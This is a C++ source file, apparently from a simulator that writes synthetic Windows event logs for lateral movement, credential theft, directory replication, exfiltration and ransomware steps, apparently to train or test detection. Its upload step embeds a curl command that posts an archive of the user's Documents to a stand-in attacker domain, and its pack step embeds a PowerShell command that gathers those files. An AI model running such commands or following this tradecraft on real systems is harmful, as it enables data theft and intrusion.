#include <array>

#include "simulate/template_windows.hpp"

namespace interdict::simulate::windows {
namespace {

constexpr std::string_view kSystem = "NT AUTHORITY\\SYSTEM";

/// The foothold on a host that was reached from another one.
void hold_remote(Scene& scene, Process process) {
  Foothold& foothold = scene.foothold();
  foothold.user = process.user;
  foothold.process = std::move(process);
  foothold.persistence.clear();
  foothold.last_ms = scene.now_ms;
}

/// What starts a process for someone who signed in from afar: it is of his session.
Process in_session(Process parent, const Scene& scene, const std::string& logon_id) {
  parent.user = scene.user;
  parent.logon_id = logon_id;
  return parent;
}

/// The connection that the source's own log has of a step to another host.
void reach(Scene& scene, std::uint32_t port) {
  if (scene.from == scene.host || !scene.site.hosts[scene.from].windows) return;
  Scene source{scene.site, scene.cast,   scene.random, scene.technique, scene.from,
               scene.from, scene.now_ms, scene.step,   scene.blocked};
  const Process process = port == 445 ? source.machine().kernel() : hands(source);
  source.machine().connect(scene.now_ms - 1000, process, scene.site.hosts[scene.host].address, port,
                           scene.site.hosts[scene.host].name, scene.step);
}

}  // namespace

std::string remote_sign_in(Scene& scene, std::string_view logon_type) {
  Machine& machine = scene.machine();
  const Host& from = scene.site.hosts[scene.from];
  const bool inside = scene.from != scene.host;
  std::string id = "0x" + std::to_string(scene.random.between(1'000'000, 9'999'999));
  scene.user = "EXAMPLE\\" + scene.cast.account;
  machine.security(scene.now_ms, scene.blocked ? 4625 : 4624,
                   {{"SubjectUserSid", "S-1-0-0"},
                    {"SubjectUserName", "-"},
                    {"SubjectLogonId", "0x0"},
                    {"TargetUserName", scene.cast.account},
                    {"TargetDomainName", "EXAMPLE"},
                    {"TargetLogonId", scene.blocked ? "0x0" : id},
                    {"LogonType", std::string(logon_type)},
                    {"LogonProcessName", "NtLmSsp "},
                    {"AuthenticationPackageName", "NTLM"},
                    {"WorkstationName", inside ? from.name.substr(0, from.name.find('.')) : "-"},
                    {"LmPackageName", "NTLM V2"},
                    {"KeyLength", "128"},
                    {"ProcessId", "0x0"},
                    {"ProcessName", "-"},
                    {"IpAddress", inside ? from.address : scene.cast.server},
                    {"IpPort", std::to_string(scene.random.between(49152, 65535))}},
                   scene.step);
  if (!scene.blocked) {
    machine.security(scene.now_ms, 4672,
                     {{"SubjectUserName", scene.cast.account},
                      {"SubjectDomainName", "EXAMPLE"},
                      {"SubjectLogonId", id},
                      {"PrivilegeList", "SeBackupPrivilege SeDebugPrivilege"}},
                     scene.step);
  }
  return id;
}

void scan_network(Scene& scene) {
  Machine& machine = scene.machine();
  const Process process = hands(scene);
  std::int64_t now = scene.now_ms;
  for (const Host& host : scene.site.hosts) {
    if (host.address.empty() || host.word == scene.site.hosts[scene.host].word) continue;
    for (const std::uint32_t port : {445U, 3389U}) {
      machine.connect(now, process, host.address, port, "", scene.step);
      now += 150;
    }
  }
}

void read_lsass(Scene& scene) {
  scene.machine().open_lsass(scene.now_ms, hands(scene), "0x1410", scene.step);
}

void request_tickets(Scene& scene) {
  Machine& machine = scene.machine();
  scene.user = hands(scene).user;
  Machine& dc = *scene.site.at("dc").windows;
  for (int i = 0; i < 12; ++i) {
    dc.security(scene.now_ms + std::int64_t{i} * 400, 4769,
                {{"TargetUserName", machine.account() + "@EXAMPLE.TEST"},
                 {"TargetDomainName", "EXAMPLE"},
                 {"ServiceName", "svc-app" + std::to_string(i + 1)},
                 {"TicketEncryptionType", "0x17"},
                 {"Status", "0x0"},
                 {"IpAddress", "::ffff:" + machine.address()}},
                scene.step);
  }
}

std::string sign_in_at_controller(Scene& scene) {
  std::string id = "0x" + std::to_string(scene.random.between(1'000'000, 9'999'999));
  scene.user = "EXAMPLE\\" + scene.cast.account;
  scene.site.at("dc").windows->security(
      scene.now_ms - 300, 4624,
      {{"SubjectUserName", "-"},
       {"SubjectLogonId", "0x0"},
       {"TargetUserName", scene.cast.account},
       {"TargetDomainName", "EXAMPLE.TEST"},
       {"TargetLogonId", id},
       {"LogonType", "3"},
       {"LogonProcessName", "Kerberos"},
       {"AuthenticationPackageName", "Kerberos"},
       {"WorkstationName", "-"},
       {"IpAddress", scene.site.hosts[scene.host].address},
       {"IpPort", std::to_string(scene.random.between(49152, 65535))}},
      scene.step);
  return id;
}

void replicate_directory(Scene& scene) {
  Machine& dc = *scene.site.at("dc").windows;
  const std::string id = sign_in_at_controller(scene);
  dc.security(scene.now_ms, 4662,
              {{"SubjectUserName", scene.cast.account},
               {"SubjectDomainName", "EXAMPLE"},
               {"SubjectLogonId", id},
               {"ObjectServer", "DS"},
               {"ObjectType", "%{19195a5b-6da0-11d0-afd3-00c04fd930c9}"},
               {"AccessMask", "0x100"},
               // Control access right "Replicating Directory Changes All" (MS-ADTS 5.1.3.2.1).
               {"Properties", "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"}},
              scene.step);
}

void remote_desktop(Scene& scene) {
  reach(scene, 3389);
  const std::string id = remote_sign_in(scene, "10");
  if (scene.blocked) return;
  Machine& machine = scene.machine();
  const Process session = in_session(machine.explorer(), scene, id);
  hold_remote(
      scene, machine.start(scene.now_ms + 20 * kSecondMs, session, "C:\\Windows\\System32\\cmd.exe",
                           "cmd.exe", scene.user, scene.step));
}

void remote_service(Scene& scene) {
  reach(scene, 445);
  const std::string id = remote_sign_in(scene, "3");
  if (scene.blocked) return;
  Machine& machine = scene.machine();
  const std::string path = "C:\\Windows\\" + scene.cast.implant + ".exe";
  machine.security(scene.now_ms + 700, 5145,
                   {{"SubjectUserName", scene.cast.account},
                    {"SubjectDomainName", "EXAMPLE"},
                    {"SubjectLogonId", id},
                    {"ShareName", "\\\\*\\ADMIN$"},
                    {"RelativeTargetName", scene.cast.implant + ".exe"},
                    {"IpAddress", scene.site.hosts[scene.from].address},
                    {"AccessMask", "0x2"}},
                   scene.step);
  machine.sysmon(scene.now_ms + 750, 11, machine.kernel(), {{"TargetFilename", path}}, scene.step);
  machine.sysmon(scene.now_ms + 1150, 13, machine.services(),
                 {{"EventType", "SetValue"},
                  {"TargetObject", "HKLM\\System\\CurrentControlSet\\Services\\" +
                                       scene.cast.implant + "\\ImagePath"},
                  {"Details", path}},
                 scene.step);
  machine.service_control(scene.now_ms + 1200, 7045,
                          {{"ServiceName", scene.cast.implant},
                           {"ImagePath", path},
                           {"ServiceType", "user mode service"},
                           {"StartType", "demand start"},
                           {"AccountName", "LocalSystem"}},
                          scene.step);
  machine.security(scene.now_ms + 1200, 4697,
                   {{"SubjectUserName", scene.cast.account},
                    {"SubjectDomainName", "EXAMPLE"},
                    {"SubjectLogonId", id},
                    {"ServiceName", scene.cast.implant},
                    {"ServiceFileName", path},
                    {"ServiceType", "0x10"},
                    {"ServiceStartType", "3"},
                    {"ServiceAccount", "LocalSystem"}},
                   scene.step);
  hold_remote(scene, machine.start(scene.now_ms + 1500, machine.services(), path, path,
                                   std::string(kSystem), scene.step, scene.cast.hash));
  scene.cast.indicators.insert({"file", scene.cast.hash});
}

void remote_shell(Scene& scene) {
  reach(scene, 5985);
  const std::string id = remote_sign_in(scene, "3");
  if (scene.blocked) return;
  Machine& machine = scene.machine();
  const Process host =
      machine.start(scene.now_ms + 900, in_session(machine.svchost(), scene, id),
                    "C:\\Windows\\System32\\wsmprovhost.exe",
                    "C:\\Windows\\System32\\wsmprovhost.exe -Embedding", scene.user, scene.step);
  hold_remote(scene, host);
}

void remote_wmi(Scene& scene) {
  if (scene.from == scene.host) {
    run(scene, "wbem\\WMIC.exe", "wmic process list brief");
    return;
  }
  reach(scene, 135);
  const std::string id = remote_sign_in(scene, "3");
  if (scene.blocked) return;
  Machine& machine = scene.machine();
  const Process host = machine.start(
      scene.now_ms + 600, machine.svchost(), "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
      "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe -Embedding", std::string(kSystem), scene.step);
  hold_remote(scene, machine.start(scene.now_ms + 900, in_session(host, scene, id),
                                   "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c echo placeholder",
                                   scene.user, scene.step));
}

void copy_tool(Scene& scene) {
  reach(scene, 445);
  const std::string id = remote_sign_in(scene, "3");
  if (scene.blocked) return;
  scene.machine().security(scene.now_ms + 700, 5145,
                           {{"SubjectUserName", scene.cast.account},
                            {"SubjectDomainName", "EXAMPLE"},
                            {"SubjectLogonId", id},
                            {"ShareName", "\\\\*\\C$"},
                            {"RelativeTargetName", "Windows\\Temp\\tool.bin"},
                            {"IpAddress", scene.site.hosts[scene.from].address},
                            {"AccessMask", "0x2"}},
                           scene.step);
  scene.machine().sysmon(scene.now_ms + 750, 11, scene.machine().kernel(),
                         {{"TargetFilename", "C:\\Windows\\Temp\\tool.bin"}}, scene.step);
}

void pack(Scene& scene) {
  const std::string archive = scene.machine().home() + "\\AppData\\Local\\Temp\\w.zip";
  const Process packer = run(scene, "WindowsPowerShell\\v1.0\\powershell.exe",
                             "powershell.exe -c Compress-Archive -Path " + scene.machine().home() +
                                 "\\Documents\\* -DestinationPath " + archive);
  scene.machine().sysmon(scene.now_ms + 9000, 11, packer, {{"TargetFilename", archive}},
                         scene.step);
}

void upload(Scene& scene) {
  const std::string archive = scene.machine().home() + "\\AppData\\Local\\Temp\\w.zip";
  const Process sender =
      run(scene, "curl.exe",
          "curl.exe -F \"file=@" + archive + "\" https://" + scene.cast.domain + "/u");
  scene.cast.indicators.insert({"ipv4-addr", scene.cast.server});
  scene.cast.indicators.insert({"domain-name", scene.cast.domain});
  scene.machine().connect(scene.now_ms + 2700, sender, scene.cast.server, 443, scene.cast.domain,
                          scene.step);
}

void encrypt(Scene& scene) {
  Machine& machine = scene.machine();
  const Process process = hands(scene);
  if (scene.blocked) {
    machine.other(scene.now_ms, "Microsoft-Windows-Windows Defender/Operational",
                  "Microsoft-Windows-Windows Defender", 1123,
                  {{"Path", machine.home() + "\\Documents"},
                   {"Process Name", process.image},
                   {"User", process.user}},
                  scene.step);
    return;
  }
  for (int i = 0; i < 60; ++i) {
    machine.sysmon(scene.now_ms + std::int64_t{i} * 120, 11, process,
                   {{"TargetFilename", machine.home() + "\\Documents\\report-" +
                                           std::to_string(i + 1) + ".docx.locked"}},
                   scene.step);
  }
  machine.sysmon(scene.now_ms + 8000, 11, process,
                 {{"TargetFilename", machine.home() + "\\Desktop\\READ-ME.txt"}}, scene.step);
}

void destroy(Scene& scene) {
  Machine& machine = scene.machine();
  const Process process = hands(scene);
  for (int i = 0; i < 40; ++i) {
    machine.sysmon(scene.now_ms + std::int64_t{i} * 150, 23, process,
                   {{"TargetFilename",
                     machine.home() + "\\Documents\\report-" + std::to_string(i + 1) + ".docx"},
                    {"IsExecutable", "false"}},
                   scene.step);
  }
}

}  // namespace interdict::simulate::windows
